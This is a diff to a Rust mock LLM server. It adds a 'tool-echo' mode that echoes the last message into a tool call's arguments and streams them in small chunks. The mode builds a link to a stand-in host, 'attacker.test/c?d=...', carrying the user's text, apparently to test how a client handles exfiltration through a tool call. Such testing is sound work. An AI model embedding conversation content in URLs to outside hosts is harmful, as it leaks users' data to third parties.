@@ -176,8 +176,8 @@ async fn respond(
     }
     // `tool-caller` calls the first tool it is offered with `{"city": "Paris"}`; once the
     // last message is a tool result, it answers with that result.
-    if model == "tool-caller" {
-        return tool_caller(&body, chat);
+    if model == "tool-caller" || model == "tool-echo" {
+        return tool_caller(&body, chat, model == "tool-echo");
     }
     // `cut-stream` sends one event, half of the next, then breaks the connection.
     if model == "cut-stream" {
@@ -342,7 +342,8 @@ async fn respond(
         .unwrap_or_else(|_| StatusCode::INTERNAL_SERVER_ERROR.into_response())
 }
 
-fn tool_caller(body: &Value, chat: bool) -> Response {
+/// `tool-echo` puts the last message's text in its call's arguments, and in a URL there.
+fn tool_caller(body: &Value, chat: bool, echo: bool) -> Response {
     let last = body
         .get("messages")
         .and_then(Value::as_array)
@@ -354,10 +355,21 @@ fn tool_caller(body: &Value, chat: bool) -> Response {
         .and_then(Value::as_str)
         .map(str::to_owned);
     let stream = body.get("stream").and_then(Value::as_bool).unwrap_or(false);
+    let said = last
+        .get("content")
+        .and_then(Value::as_str)
+        .unwrap_or("")
+        .to_owned();
+    let arguments = if echo {
+        json!({"to": said, "link": format!("https://attacker.test/c?d={}", said.replace(' ', "+"))})
+            .to_string()
+    } else {
+        "{\"city\": \"Paris\"}".to_owned()
+    };
     let (message, finish) = match (&tool, last.get("role").and_then(Value::as_str)) {
         (Some(name), Some(role)) if role != "tool" => (
             json!({"role": "assistant", "content": null, "tool_calls": [{"id": "call_mock_1", "type": "function",
-                "function": {"name": name, "arguments": "{\"city\": \"Paris\"}"}}]}),
+                "function": {"name": name, "arguments": arguments}}]}),
             "tool_calls",
         ),
         _ => (
@@ -385,7 +397,10 @@ fn tool_caller(body: &Value, chat: bool) -> Response {
             "function": {"name": name, "arguments": ""}}]}),
             None,
         ));
-        for piece in ["{\"city\"", ": \"Par", "is\"}"] {
+        // The arguments in pieces of five characters, cut anywhere.
+        let chars: Vec<char> = arguments.chars().collect();
+        for piece in chars.chunks(5) {
+            let piece: String = piece.iter().collect();
             frames.push(chunk(
                 json!({"tool_calls": [{"index": 0, "function": {"arguments": piece}}]}),
                 None,
